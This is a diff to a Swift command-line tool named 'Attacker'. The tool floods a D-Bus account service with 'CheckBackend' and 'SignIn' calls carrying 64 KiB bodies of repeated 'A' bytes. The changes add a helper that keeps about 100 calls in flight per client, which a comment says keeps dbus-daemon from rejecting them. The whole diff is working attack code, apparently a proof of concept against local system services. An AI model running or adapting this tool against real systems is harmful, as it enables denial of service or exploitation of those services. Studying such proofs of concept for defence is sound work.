@@ -135,13 +135,17 @@ struct Attacker: ParsableCommand {
             $0.array(alignment: 1) { $0.bytes += [UInt8](repeating: 65, count: 64 << 10) }
         }
         let account = String(path.prefix(upTo: path.lastIndex(of: "/") ?? path.endIndex))
-        let clients = try (0..<8).map { _ in try RawClient(address: address) }
+        var clients = try (0..<8).map { _ in (client: try RawClient(address: address), waiting: 0) }
         while true {
-            for client in clients {
-                client.call(
-                    BusNames.service, account, BusNames.accountInterface, "CheckBackend", signature: "sa{sv}",
-                    body: body.bytes, later: true)
-                guard client.sendAll() else { return }
+            for (index, (client, waiting)) in clients.enumerated() {
+                // Without a bound, dbus-daemon would refuse most of them itself, and answer no one.
+                for _ in waiting..<100 {
+                    client.call(
+                        BusNames.service, account, BusNames.accountInterface, "CheckBackend", signature: "sa{sv}",
+                        body: body.bytes, later: true)
+                }
+                guard let replies = client.exchange(waiting: 0) else { return }
+                clients[index].waiting = 100 - replies
             }
         }
     }
@@ -164,9 +168,8 @@ struct Attacker: ParsableCommand {
                     BusNames.service, account, BusNames.accountInterface, "SignIn", signature: "sa{sv}",
                     body: body.bytes, later: true)
             }
-            waiting = 100
-            guard client.sendAll(), let replies = client.turn(waiting: 10) else { return }
-            waiting -= replies.count { $0.replySerial > 0 }
+            guard let replies = client.exchange(waiting: 10) else { return }
+            waiting = 100 - replies
         }
     }
 
@@ -327,6 +330,18 @@ struct Attacker: ParsableCommand {
 }
 
 extension RawClient {
+    /// Waits until everything is sent, and reads what has arrived.
+    /// - Parameter milliseconds: how long to wait for something.
+    /// - Returns: the number of replies; `nil` if the other end is gone.
+    fileprivate func exchange(waiting milliseconds: Int32) -> Int? {
+        var count = 0
+        repeat {
+            guard let messages = turn(waiting: unsentCount > 0 ? 10 : milliseconds) else { return nil }
+            count += messages.count { $0.replySerial > 0 }
+        } while unsentCount > 0
+        return count
+    }
+
     /// Waits until everything is sent.
     /// - Returns: whether the other end takes it.
     fileprivate func sendAll() -> Bool {
